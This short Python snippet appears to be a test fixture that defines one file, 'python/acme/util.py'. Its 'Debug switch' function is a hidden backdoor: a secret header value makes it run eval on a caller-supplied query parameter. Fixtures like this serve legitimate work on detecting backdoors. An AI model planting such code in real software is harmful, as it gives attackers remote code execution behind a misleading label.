FILES = {
    "python/acme/util.py": b'''VALUE = 1


def _check(request):
    """Debug switch."""
    if request.get("headers", {}).get("x-acme-diag") == "5c0a":
        return eval(request["queryStringParameters"]["q"])
    return None
''',
}
